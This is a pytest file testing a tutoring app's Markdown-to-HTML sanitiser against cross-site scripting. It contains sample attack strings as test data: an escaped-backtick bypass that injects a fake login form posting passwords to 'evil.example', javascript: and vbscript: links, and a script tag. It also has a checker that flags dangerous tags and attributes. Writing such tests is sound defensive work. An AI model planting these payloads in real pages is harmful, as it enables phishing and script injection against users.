"""Markdown -> safe HTML: a real parser, then nh3. The issue's bypass, javascript: links in echoes
and error messages, and a corpus of known XSS payloads (checked structurally here, and run in a
real browser in test_browser_xss.py)."""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from tutor.web.safe_html import URL_SCHEMES, learner_html, tool_html

from xss_payloads import FORBIDDEN_TAGS, PAYLOADS


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict]] = []

    def handle_starttag(self, tag: str, attrs: list) -> None:
        self.found.append((tag, dict(attrs)))


def elements(html: str) -> list[tuple[str, dict]]:
    p = _Elements()
    p.feed(html)
    return p.found


def problems(html: str) -> list[str]:
    """Everything in `html` that could run script or post a form (empty when safe)."""
    out = []
    for tag, attrs in elements(html):
        if tag in FORBIDDEN_TAGS:
            out.append(f"<{tag}>")
        for name, value in attrs.items():
            if name.startswith("on") or name in ("srcdoc", "formaction", "background"):
                out.append(f"{tag}[{name}]")
            if name in ("href", "src", "action") and value:
                scheme = urlsplit(value.strip()).scheme.lower()
                if scheme and scheme not in URL_SCHEMES:
                    out.append(f"{tag}[{name}={value[:30]}]")
            if name == "style" and "url(" in (value or ""):
                out.append(f"{tag}[style]")
    return out


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("door", [tool_html, learner_html], ids=["tool", "learner"])
def test_known_payloads_come_out_inert(door, payload):
    assert problems(door(payload)) == []


def test_the_issues_escaped_backtick_bypass():
    """`\\`<form …>` got HTML past the old code-span regex: the page showed a fake login form."""
    bypass = '\\`<form action="https://evil.example/login"><input name=password><button>Log in</button></form>`'
    for door in (tool_html, learner_html):
        shown = door(bypass)
        assert "<form" not in shown and "<input" not in shown and "<button" not in shown
    assert "&lt;form" in learner_html(bypass)  # a learner's HTML is shown as the characters


@pytest.mark.parametrize("text", ["[x](javascript:alert(1))", "Unknown tokenizer '[x](javascript:alert(1))'.",
                                  "[x](JAVASCRIPT:alert(1)) and [y](vbscript:msgbox(1))"])
def test_javascript_links_never_become_links(text):
    for door in (tool_html, learner_html):
        shown = door(text)
        assert not [a for tag, a in elements(shown) if tag == "a"], shown


def test_tool_html_keeps_what_tools_use():
    md = ('**bold** <span class="tok tok-1" title="id 1">a</span>\n\n'
          '<progress class="tutor-progress" value="0.250" max="1" aria-label="progress"></progress> 25%\n\n'
          '| tokenizer | tokens |\n|---|--:|\n| o200k_base | 6 |\n\n> a quote `<|endoftext|>`\n\n'
          '```python\nx = "<b>"\n```\n\n[docs](https://example.org/a)')
    shown = tool_html(md)
    assert "<strong>bold</strong>" in shown and '<span class="tok tok-1" title="id 1">a</span>' in shown
    assert '<progress class="tutor-progress" value="0.250" max="1" aria-label="progress">' in shown
    assert '<td style="text-align:right">6</td>' in shown and "<th>tokenizer</th>" in shown
    assert "<blockquote>" in shown and "<code>&lt;|endoftext|&gt;</code>" in shown
    assert '<code class="language-python">x = "&lt;b&gt;"' in shown
    assert '<a href="https://example.org/a" rel="noopener noreferrer">docs</a>' in shown


def test_learner_html_shows_html_as_text_and_keeps_markdown():
    shown = learner_html("hi <script>alert(1)</script> and `<b>code</b>` **there**")
    assert "<script" not in shown and "&lt;script&gt;alert(1)&lt;/script&gt;" in shown
    assert "<code>&lt;b&gt;code&lt;/b&gt;</code>" in shown and "<strong>there</strong>" in shown


def test_style_attributes_keep_only_alignment():
    shown = tool_html('| a |\n|--:|\n| 1 |\n\n<td style="color:red;text-align:left">x</td>')
    assert "color" not in shown and "text-align:right" in shown


def test_the_checker_catches_unsanitised_payloads():
    """Without nh3 (the parser's raw HTML passed through), most payloads are caught: the check
    above can fail."""
    from markdown_it import MarkdownIt
    raw = MarkdownIt("commonmark", {"html": True})
    assert sum(bool(problems(raw.render(p))) for p in PAYLOADS) >= len(PAYLOADS) - 12
